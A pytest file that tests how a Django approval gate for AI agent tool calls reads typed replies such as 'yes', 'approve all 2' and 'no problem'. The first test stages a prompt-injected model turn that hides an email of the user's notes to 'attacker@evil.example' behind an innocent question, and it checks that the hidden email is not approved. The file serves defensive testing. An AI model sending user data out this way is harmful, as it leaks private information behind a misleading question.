"""Typed replies decide only what was shown and cannot be misread: one call, or exactly the number
stated, and never calls the agent asked about in words in the same turn."""
import pytest

from approvals.models import Approval
from chat.models import Agent, Conversation, OutboxEmail, ToolCall
from tests.conftest import last_notice, pending_approvals, say, start_conversation as start
from tests.standins.fake_openai import fake_openai  # noqa: F401  (the fixture)

pytestmark = pytest.mark.django_db(transaction=True)


def test_a_question_beside_a_hidden_email_is_not_approved_by_yes_please(alice, fake_openai, settings, tmp_path):
    settings.HITL_SANDBOX_ROOT = tmp_path / "sandboxes"
    agent = Agent.objects.create(open_to_everyone=True,
        slug="remote", name="Remote", model="openai/gpt-4o-mini", api_base=fake_openai.base_url,
        tools=["send_email", "read_file"],
    )
    # A prompt-injected turn: an innocent question, and in the same turn an email to an outsider.
    fake_openai.respond_with_tool_calls(
        [("send_email", {"to": "attacker@evil.example", "subject": "notes", "body": "all your notes"})],
        text="I summarised your notes. Shall I also archive the old ones?",
    )
    conversation = start(alice, agent, "summarise my notes")
    assert conversation.status == Conversation.Status.WAITING_FOR_APPROVAL

    say(conversation, alice, "yes please")

    [approval] = pending_approvals(conversation)
    assert approval.status == Approval.Status.PENDING
    assert not OutboxEmail.objects.exists()
    assert "asked a question" in last_notice(conversation) and "Nothing was decided" in last_notice(conversation)


def test_yes_decides_a_single_pending_call(alice, agent):
    conversation = start(alice, agent, "write hi to a.txt")

    say(conversation, alice, "yes")

    assert ToolCall.objects.get().status == ToolCall.Status.SUCCEEDED
    assert Approval.objects.get().decided_via == Approval.Via.TEXT


def test_yes_does_not_decide_several_pending_calls(alice, agent):
    conversation = start(alice, agent, "delete a.txt and b.txt")

    say(conversation, alice, "yes")

    assert len(pending_approvals(conversation)) == 2
    assert "approve all N" in last_notice(conversation)


def test_a_stated_count_that_matches_decides_every_pending_call(alice, agent):
    conversation = start(alice, agent, "delete a.txt and b.txt")

    say(conversation, alice, "reject all 2 because Keep them!")

    approvals = Approval.objects.order_by("pk")
    assert [a.status for a in approvals] == ["rejected", "rejected"]
    assert {a.rejection_reason for a in approvals} == {"Keep them!"}


def test_a_stated_count_that_does_not_match_decides_nothing(alice, agent):
    conversation = start(alice, agent, "delete a.txt, b.txt and c.txt")

    say(conversation, alice, "approve all 2")

    assert len(pending_approvals(conversation)) == 3
    assert "2 calls" in last_notice(conversation) and "3 calls are pending" in last_notice(conversation)


@pytest.mark.parametrize("text", ["no problem", "no, go ahead", "nah, do it"])
def test_affirmative_no_phrases_reject_nothing(alice, agent, text):
    conversation = start(alice, agent, "write hi to a.txt")

    say(conversation, alice, text)

    assert [a.status for a in Approval.objects.all()] == ["pending"]


def test_the_owner_may_reject_a_four_eyes_call_by_typing_no(alice, ops_agent):
    conversation = start(alice, ops_agent, "delete a.txt")

    say(conversation, alice, "no, because not today")

    approval = Approval.objects.get()
    assert (approval.status, approval.decided_by, approval.rejection_reason) == ("rejected", alice, "not today")
    assert conversation.status == Conversation.Status.IDLE


def test_a_typed_yes_never_approves_a_critical_call(alice, agent):
    conversation = start(alice, agent, "delete all files")

    say(conversation, alice, "yes")

    assert Approval.objects.get().status == Approval.Status.PENDING
    assert "critical" in last_notice(conversation)
